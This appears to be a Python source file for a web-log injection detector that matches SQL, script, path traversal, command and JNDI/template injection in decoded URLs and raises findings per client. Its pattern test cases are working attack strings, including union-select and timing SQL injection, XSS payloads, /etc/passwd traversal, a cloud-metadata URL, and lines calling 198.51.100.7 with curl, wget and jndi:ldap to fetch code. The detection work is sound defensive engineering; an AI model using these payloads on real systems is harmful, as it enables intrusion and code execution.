"""injection: attempts to have text from the URL run as SQL, script, path, command or lookup.

The path and the query string are decoded once and twice, because attackers encode twice, and every
pattern asks for the structure of an attack, never for a word: "select a union rep" is prose. Message
bodies are not looked at here (prompts are full of code; they meet rules of their own).
Sources: OWASP Core Rule Set 4 and the OWASP Testing Guide, for the kinds of attack; the patterns are ours.
"""

from collections.abc import Iterator, Sequence
from datetime import datetime
from typing import NamedTuple

from deepmoat.detect.detector import (
    REQUESTS_OF,
    Case,
    Detector,
    Row,
    cause,
    evidence,
    grouped,
    stretches,
    when,
)
from deepmoat.detect.quote import fill
from deepmoat.kit.settings import Settings
from deepmoat.model import Finding, Severity

GAP = 3600
COMMENT = r"/\*[^*]*\*/"
"""SQL takes a comment for white space, so it becomes some before the patterns look."""


class Pattern(NamedTuple):
    """An RE2 expression over decoded lower-case text; ``~`` stands for white space.

    ``fires`` are queries or paths, as sent, that must match, ``spares`` are ones that must not.
    """

    family: str
    expression: str
    fires: tuple[str, ...]
    spares: tuple[str, ...] = ()


PATTERNS: tuple[Pattern, ...] = (
    Pattern(
        "sql",
        r"\bunion~+(all~+|distinct~+)?\(?~*select\b",
        (
            "?id=1%20UNION%20SELECT%201,2",
            "?id=1+union/**/all/**/select+null",
            "?id=-1%2527%2520union%2520select%25201",
        ),
        ("?q=select+a+union+rep", "?q=credit%20union%20selection", "?q=european+union+and+select+committee"),
    ),
    Pattern(
        "sql",
        r"['\x22]\)*~*(or|and|\|\||&&)~*\(*['\x22]?\w*['\x22]?~*(=|<|>|~like~)",
        ("?user=admin%27%20or%20%271%27=%271", "?u=x%22)+or+(%22a%22=%22a"),
        ("?q=it%27s+and+that%27s+all", "?q=%22rock%22+or+%22pop%22", "?q='salt'+and+'pepper'&page=2"),
    ),
    Pattern(
        "sql",
        r"\b(or|and)~+\(*\d+\)*~*=~*\(*\d+",
        ("?id=5+or+1=1", "?id=5)%20and%20(7=7"),
        ("?q=2+or+3&n=5", "?or=1&and=2", "?q=option+a+or+1&size=2"),
    ),
    Pattern(
        "sql",
        r"\b(sleep~*\(~*[\d.]+~*\)|benchmark~*\(~*\d+~*,|pg_sleep~*\(|waitfor~+delay~*'|extractvalue~*\(|updatexml~*\("
        r"|load_file~*\(|dbms_pipe\.|utl_http\.|xp_cmdshell)",
        ("?id=1-sleep(5)", "?id=1;waitfor%20delay%20'0:0:5'", "?id=extractvalue(1,concat(0x7e,version()))"),
        ("?q=how+to+sleep+(5+tips)", "?q=benchmark+results", "?q=sleep()"),
    ),
    Pattern(
        "sql",
        r"(;|'|\x22)~*(drop|truncate|alter)~+(table|database|schema)\b|;~*(insert~+into|delete~+from|update~+\w+~+set)\b"
        r"|\bfrom~+information_schema\.|\binto~+(outfile|dumpfile)~*['\x22]|\w'~*(--|\x23)[-\s]*($|&)|\b(order|group)~+by~+\d+~*--",
        (
            "?id=1;drop%20table%20users",
            "?user=admin'--",
            "?id=1+order+by+10--+-",
            "?x=1+from+information_schema.tables",
        ),
        (
            "?q=drop+table+lamp",
            "?q=rock+'n'+roll",
            "?q=information_schema",
            "?sort=order+by+date",
            "?q=dogs'+--+a+story",
        ),
    ),
    Pattern(
        "script",
        r"<~*/?script\b|<~*[a-z][^>]*[\s/+\x22']on[a-z]{3,20}~*=|\bjavascript~*:~*[\w.]+~*[(`=]|<~*iframe\b"
        r"|['\x22]~*[/+;]?~*on(error|load|mouseover|focus|click|toggle)~*=~*['\x22a-z]|data:text/html[;,]",
        (
            "?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "?q=%253Csvg%252Fonload%253Dalert(1)%253E",
            "?q=%22+onfocus=alert(1)+autofocus",
            "?next=javascript:alert(document.domain)",
            "/page/<img src=x onerror=alert(1)>",
        ),
        (
            "?q=a+%3C+b+and+c+%3E+d",
            "?q=javascript:+the+good+parts",
            "?q=movie+script",
            "?q=%3C3+one+more+time=yes",
        ),
    ),
    Pattern(
        "path",
        r"(\.\.|%c0%ae%c0%ae)(/|\\|%c0%af)~*(\.\.|%c0%ae%c0%ae)(/|\\|%c0%af)|\.\.;/|/etc/(passwd|shadow|group|hosts)\b"
        r"|\b(windows|winnt)[/\\]+(system32|win\.ini)|[/=]proc/self/|[=?](php|file|gopher|dict|phar|expect|zip)://"
        r"|//169\.254\.169\.254\b",
        (
            "/files/..%2f..%2fetc/passwd",
            "?file=../../../../etc/passwd%00",
            "?f=%252e%252e%252f%252e%252e%252fboot.ini",
            "?page=php://filter/convert.base64-encode/resource=index",
            "?url=http://169.254.169.254/latest/meta-data/",
            "/..;/manager/html",
        ),
        ("/blog/../images/logo.png", "?q=wait...+what", "/scripts//%22file://$file/%22", "?range=1..5/2..6"),
    ),
    Pattern(
        "command",
        r"(;|\||&&|`|\$\(|\n)~*(/bin/)?((cat|head|tail|more)~+[/.\x7e\w*]*[/.]|(wget|curl|fetch|ping|nslookup|nc|ncat)~+[-\w./:]{3}"
        r"|(ba|z|da)?sh~+-[ci]|(id|whoami|uname(~+-a)?|ls(~+-la?)?|pwd)~*($|[;|`)&]))"
        r"|\$\{ifs\}|\bcmd(\.exe)?~*/c~|\bpowershell(\.exe)?~+-\w|;~*(rm~+-r|chmod~+[+0-7])|/bin/(ba|da|z)?sh\b",
        (
            "?host=127.0.0.1;cat%20/etc/hosts.allow",
            "?host=x|whoami",
            "?x=$(curl%20http://198.51.100.7/a)",
            "?cmd=cmd.exe+/c+dir",
            "?ip=1%26%26wget+http://198.51.100.7/x.sh",
            "?f=a;cat${IFS}/tmp/x",
        ),
        (
            "?a=1&id=5",
            "?q=cats;dogs",
            "?q=salt+%7C+pepper",
            "/list;id=7;sort=asc",
            "?q=cat+and+curl",
            "?q=ping+pong",
        ),
    ),
    Pattern(
        "lookup",
        r"\$\{~*jndi~*:|\$\{[^{}]*\$\{|\$\{~*(lower|upper|::-|date|base64|script|dns)~*:|\{\{~*\d+~*\*~*\d+~*\}\}"
        r"|\$\{~*\d+~*\*~*\d+~*\}|%\{\(\x23|\bt\(java\.lang",
        (
            "?x=${jndi:ldap://198.51.100.7/a}",
            "?x=%24%7B%24%7Blower:j%7Dndi:ldap://198.51.100.7/a%7D",
            "?name={{7*7}}",
            "/%25%7b(%23a=1)%7d/x.action",
        ),
        ("/scripts//%22$%7BWEBLOC%7D/view.php?file=$%7Blinkto%7D", "?price=${amount}", "?t={{name}}"),
    ),
)
FAMILIES: dict[str, str] = {
    "sql": "SQL",
    "script": "script",
    "path": "path traversal or inclusion",
    "command": "command",
    "lookup": "lookup or template",
}
SUSPECT = (
    r"(?i)%(0[9ad]|2[1-9a-f]|3[b-e]|5c|60|7[b-d]|c0)|\.\.|[<'\x22`;|{$(]|union|(or|and)(%20|[+])"
    r"|://|--|/etc/|/proc/|/bin/|cmd|_schema"
)
"""What every pattern needs at least: most requests stop here, before they are decoded."""
HEADERS = r"(?i)\$\{~*jndi|\$\{[^{}]*\$\{|\(\)~*\{~*:;~*\}~*;|\$%7bjndi|%24%7bjndi"


def expression(family: str) -> str:
    """All patterns of one family as one RE2 expression."""
    return "(?i)(" + "|".join(p.expression for p in PATTERNS if p.family == family).replace("~", r"\s") + ")"


class Thresholds(Settings, frozen=True):
    """``[detect.injection]``: ``tries`` of one client in five minutes, or two families, are certain."""

    tries: int = 3


def _row(client: str, **tries: int) -> Row:
    """A row of the statement, for the cases."""
    row: dict[str, object] = {**dict.fromkeys((*FAMILIES, "headers"), 0), **tries}
    return row | {
        "bucket": 1_700_000_100,
        "client_address": client,
        "country": "ZZ",
        "host": "shop.example",
        "tries": sum(tries.values()),
        "answered": 0,
        "sample": "/?id=1 union select 1",
        "first": 1_700_000_100,
        "last": 1_700_000_130,
    }


class Injection(Detector[Thresholds]):
    """Text in a URL that has the structure of SQL, script, path, command or lookup injection."""

    QUERY = fill(
        """* | select bucket, client_address, max(client_country) as country,
          case when min(server_address) = max(server_address) then max(server_address) else '' end as host,
          count_if(hit > 0) as tries, count_if(hit > 0 and status >= 200 and status < 300) as answered,
          sum(sql) as sql, sum(script) as script, sum(path) as path, sum(command) as command,
          sum(lookup) as lookup, sum(headers) as headers,
          max(case when hit > 0 then once else '' end) as sample,
          min(case when hit > 0 then second end) as first, max(case when hit > 0 then second end) as last
        from (
          select second, second - second % 300 as bucket, client_address, client_country, server_address,
            status, once, sql, script, path, command, lookup, headers,
            sql + script + path + command + lookup + headers as hit
          from (
            select second, client_address, client_country, server_address, status, once,
              case when regexp_like(once, {sql}) or regexp_like(twice, {sql}) then 1 else 0 end as sql,
              case when regexp_like(once, {script}) or regexp_like(twice, {script})
                then 1 else 0 end as script,
              case when regexp_like(once, {path}) or regexp_like(twice, {path}) then 1 else 0 end as path,
              case when regexp_like(once, {command}) or regexp_like(twice, {command})
                then 1 else 0 end as command,
              case when regexp_like(once, {lookup}) or regexp_like(twice, {lookup})
                then 1 else 0 end as lookup,
              case when regexp_like(said, {headers}) then 1 else 0 end as headers
            from (
              select __time__ as second, client_address, client_country, server_address,
                http_response_status_code as status,
                concat(user_agent_original, ' ', http_request_referer) as said,
                lower(regexp_replace(url_decode(concat(url_path, '?', url_query)), {comment}, ' ')) as once,
                lower(regexp_replace(url_decode(url_decode(concat(url_path, '?', url_query))),
                  {comment}, ' ')) as twice
              from log where regexp_like(concat(url_path, '?', url_query), {suspect})
                or user_agent_original like '%${%' or user_agent_original like '%() {%'
                or http_request_referer like '%${%' or http_request_referer like '%jndi%'
            ) as suspects
          ) as judged
        ) as summed
        group by bucket, client_address having tries > 0 order by tries desc limit 20000""",
        **{name: expression(name) for name in FAMILIES},
        headers=HEADERS.replace("~", r"\s"),
        suspect=SUSPECT,
        comment=COMMENT,
    )
    BUCKET, WINDOW, EVERY = 300, 300, 5.0
    THRESHOLDS = Thresholds
    TECHNIQUES = ("T1190",)
    BLIND = (
        "Anything in a request's body or cookies. Encodings other than percent, or percent more than twice. "
        "Attacks on one application's own logic, which look like ordinary values. A single attempt is told, "
        "but not as certain."
    )
    CASES = (
        Case([_row("192.0.2.1", sql=3)], found=["192.0.2.1"]),
        Case([_row("192.0.2.2", path=1)], found=["192.0.2.2"]),
        Case([], found=[]),
    )

    def judge(self, rows: Sequence[Row], now: datetime) -> Iterator[Finding]:
        """One finding a client and series of attempts."""
        for buckets in grouped(rows, "client_address").values():
            for stretch in stretches(buckets, "bucket", GAP):
                yield self._finding(stretch)

    def _finding(self, buckets: Sequence[Row]) -> Finding:
        client, host = str(buckets[0]["client_address"]), str(buckets[0]["host"])
        first, last = when(min(b["first"] for b in buckets)), when(max(b["last"] for b in buckets))
        tries = sum(b["tries"] for b in buckets)
        kinds = _kinds(buckets)
        certain = tries >= self.at.tries or len(kinds) > 1 or "lookup or template" in kinds
        sample = str(buckets[0]["sample"])[:120]
        return Finding(
            detector=self.name,
            cause=cause(self.name, host, certain=certain),
            subject=("client_address", client),
            severity=Severity.HIGH if certain else Severity.MEDIUM,
            first=first,
            last=last,
            count=tries,
            summary=f"{client} tried {' and '.join(kinds)} injection {tries} times, such as {sample}"
            f" ({sum(b['answered'] for b in buckets)} answered with 2xx)",
            evidence=evidence(REQUESTS_OF, self.LOGSTORE, first, last, client=client),
            country=str(buckets[0]["country"]),
            techniques=self.TECHNIQUES,
        )


def _kinds(buckets: Sequence[Row]) -> list[str]:
    kinds = [label for name, label in FAMILIES.items() if any(b[name] for b in buckets)]
    if any(b["headers"] for b in buckets) and FAMILIES["lookup"] not in kinds:
        kinds.append(FAMILIES["lookup"])
    return kinds
